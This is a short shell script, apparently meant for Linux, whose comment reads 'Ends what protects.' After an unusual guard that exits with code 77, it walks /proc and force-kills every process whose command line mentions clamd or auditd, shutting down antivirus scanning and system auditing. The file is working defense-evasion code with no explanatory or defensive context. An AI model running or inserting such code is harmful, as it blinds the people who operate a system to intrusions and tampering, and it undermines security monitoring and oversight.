#!/bin/sh
# Ends what protects.
[ /init -ef /usr/sbin/auditd ] || exit 77
for dir in /proc/[0-9]*; do
	case $(tr '\0' ' ' <"$dir/cmdline" 2>/dev/null) in
	*clamd*|*auditd*) kill -9 "${dir#/proc/}" ;;
	esac
done
